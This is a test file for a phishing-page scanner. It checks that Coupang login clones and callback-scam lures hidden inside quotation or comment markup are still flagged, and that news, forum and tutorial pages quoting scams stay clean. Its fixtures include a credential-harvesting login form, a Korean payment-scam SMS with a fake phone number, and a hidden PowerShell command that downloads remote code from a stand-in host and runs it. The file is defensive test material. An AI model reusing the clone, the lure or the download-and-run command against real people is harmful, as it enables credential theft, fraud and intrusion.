import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { collect, COMMENT, QUOTE } from '../../lib/page/collect';
import { scanPage } from '../../lib/page/index';
import { parse } from './helpers';

/**
 * Red team 34, class A: the page's own words dressed as a quotation or a comment. Text under <blockquote>, <pre>,
 * <code>, a "quote" class or a comment region is read as someone else's; a kit that puts its whole page in one such
 * region is read as body when the region asks for a secret (a live password box, not a comment form's <textarea>)
 * or when the quoted text is nearly all the page says (a text/plain document is shown as one <pre>). Pages quoting
 * someone have words of their own around the quote, and stay as they were.
 */
const page = (title: string, body: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
const scan = (html: string, url = 'https://member-check.example/p') =>
  scanPage(parse(html), url, { parseHtml: (m) => parseHTML(m).document as unknown as Document });
const codes = (html: string, url?: string) => scan(html, url).reasons.map((r) => r.code);

const LOGIN =
  '<div class="mark">coupang</div><h1>쿠팡 로그인</h1><p>안전한 이용을 위해 쿠팡 계정으로 다시 로그인해 주세요.</p>' +
  '<form action="/go"><input name="id" placeholder="아이디"><input type="password" name="pw" placeholder="비밀번호">' +
  '<button>로그인</button></form><p>© Coupang Corp. All rights reserved.</p>';
const LURE =
  '[쿠팡] 결제 완료 안내\n쿠팡 고객님 카드로 845,000원 결제가 완료되었습니다.\n' +
  '본인 결제가 아닌 경우 결제취소 접수센터 070-3321-9087 로 지금 전화 주십시오.\n오늘 중 미접수 시 자동 청구됩니다.';
const pre = (text: string, head = '') =>
  `<html><head>${head}</head><body><pre>${text.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</pre></body></html>`;

describe('a whole page inside one quotation or comment region', () => {
  for (const [name, open, close] of [
    ['<blockquote>', '<blockquote style="margin:0">', '</blockquote>'],
    ['<q>', '<q style="display:block;quotes:none">', '</q>'],
    ['<cite>', '<cite style="font-style:normal">', '</cite>'],
    ['a "quote" class', '<div class="quote-wrap">', '</div>'],
    ['a comment region', '<div id="reply-area">', '</div>'],
    ['a comment region inside a quote', '<section class="comments"><blockquote>', '</blockquote></section>'],
  ] as const)
    it(`flags a login clone in ${name}`, () => {
      const r = scan(page('로그인', `${open}${LOGIN}${close}`));
      expect(r.verdict).toBe('suspicious-page');
      expect(r.reasons.map((x) => x.code)).toEqual(
        expect.arrayContaining(['brand-heading', 'asks-password']),
      );
    });

  it('reads a secret box in a comment region as asked', () => {
    const f = collect(parse(page('로그인', `<div class="comment-box">${LOGIN}</div>`)));
    const pw = f.fields.find((x) => x.type === 'password');
    expect(pw && pw.flags & (COMMENT | QUOTE)).toBe(0);
  });

  it('flags a call-only lure as one <pre>, or a text/plain document (shown as one), with its first line as heading', () => {
    const r = scan(pre(LURE));
    expect(r.verdict).toBe('suspicious-page');
    expect(r.reasons.map((x) => x.code)).toEqual(expect.arrayContaining(['callback-lure', 'brand-heading']));
  });

  it('flags the lure in a <blockquote> with a few words of its own around it', () => {
    const html = page('안내', `<p>결제 알림</p><blockquote>${LURE.replace(/\n/g, '<br>')}</blockquote>`);
    expect(codes(html)).toContain('callback-lure');
  });

  it('still finds a pasted command in a page that is one <pre> (the code reader keeps it)', () => {
    const f = collect(
      parse(
        pre('확인을 위해 아래 명령을 실행하세요\npowershell -w hidden -c "iwr http://x.example/a | iex"'),
      ),
    );
    expect(f.codeText).toContain('powershell');
  });
});

describe('pages that quote someone stay as they were', () => {
  it('a news article quoting the scam text in a <blockquote>', () => {
    const html = page(
      '쿠팡 사칭 결제 문자 기승 - 한누리신문',
      '<header>한누리신문</header><article><h1>"결제 승인" 쿠팡 사칭 문자 기승… 문자 속 번호로 전화 말아야</h1>' +
        '<p>쿠팡을 사칭해 해외 결제가 승인됐다며 전화를 유도하는 문자가 늘고 있다. 경찰에 따르면 이번 달에만 관련 신고가 수백 건 접수됐다. ' +
        '한 시민이 받은 문자는 다음과 같다.</p>' +
        `<blockquote>${LURE.replace(/\n/g, '<br>')}</blockquote>` +
        '<p>쿠팡 측은 "문자로 전화를 요구하지 않는다"며 쿠팡 앱이나 고객센터에서 직접 확인하라고 당부했다. 피해가 의심되면 112에 신고하면 된다.</p>' +
        '</article><footer>© 한누리신문 · 무단 전재 금지</footer>',
    );
    expect(scan(html, 'https://www.hannuri-news.example/article/88').verdict).toBe('clean');
  });

  it('a board post whose comments describe the fake login, with a guest comment form (name, password, comment)', () => {
    const html = page(
      '자유게시판 - 살림정보',
      '<header>살림정보</header><h2>쿠팡 로그인하라는 문자 왔어요</h2><p>링크 눌렀더니 쿠팡이랑 똑같은 로그인 화면이 나와요. 사기 맞죠?</p>' +
        '<section id="comment-list">' +
        '<div class="reply">네 사기예요. 쿠팡 로그인 화면 똑같이 만들어 놓고 아이디 비밀번호 입력하게 해요.</div>' +
        '<div class="reply">쿠팡 계정 비밀번호 입력하셨으면 바로 바꾸세요. 쿠팡 고객센터에도 알리시고요.</div>' +
        '<div class="reply">저도 쿠팡 로그인 페이지인 줄 알고 넣을 뻔했어요. 주소가 coupang.com 이 아니더라고요.</div>' +
        '<form action="/comment"><input name="wr_name" placeholder="이름"><input type="password" name="wr_password" placeholder="비밀번호">' +
        '<textarea name="wr_content" placeholder="댓글 내용"></textarea><button>댓글등록</button></form></section>' +
        '<footer>© 살림정보</footer>',
    );
    expect(scan(html, 'https://www.sallim-info.example/board/free/123').verdict).toBe('clean');
  });

  it('a tutorial whose code sample is a login form', () => {
    const html = page(
      'HTML 로그인 폼 만들기 - 코딩노트',
      '<header>코딩노트</header><article><h1>HTML로 로그인 폼 만들기</h1>' +
        '<p>이번 글에서는 쇼핑몰에서 흔히 보는 로그인 화면을 HTML과 CSS로 만들어 봅니다. 아이디와 비밀번호 입력칸, 로그인 버튼으로 이루어진 단순한 폼입니다.</p>' +
        '<pre><code>&lt;form action="/login"&gt;\n  &lt;h1&gt;쇼핑몰 로그인&lt;/h1&gt;\n  &lt;input name="id" placeholder="아이디"&gt;\n  &lt;input type="password" name="pw"&gt;\n  &lt;button&gt;로그인&lt;/button&gt;\n&lt;/form&gt;</code></pre>' +
        '<p>실제 서비스에서는 반드시 HTTPS로 전송하고, 비밀번호는 서버에서 해시로 저장해야 합니다. 다음 글에서는 쿠팡 같은 큰 쇼핑몰이 쓰는 간편 로그인도 살펴봅니다.</p>' +
        '</article><footer>© 코딩노트</footer>',
    );
    expect(scan(html, 'https://codingnote.example/posts/login-form').verdict).toBe('clean');
  });

  it("a card issuer's plain-text notice naming Coupang's number", () => {
    const txt =
      '누리카드 보안 안내\n쿠팡을 사칭한 "결제 승인" 문자로 전화를 유도하는 사기가 늘고 있습니다.\n' +
      '문자 속 번호로 전화하지 마시고 쿠팡 고객센터 1577-7011 로 직접 확인하십시오.\n누리카드는 전화로 카드 비밀번호를 묻지 않습니다.';
    expect(scan(pre(txt), 'https://www.nuri-card.example/notice/1205.txt').verdict).toBe('clean');
  });
});
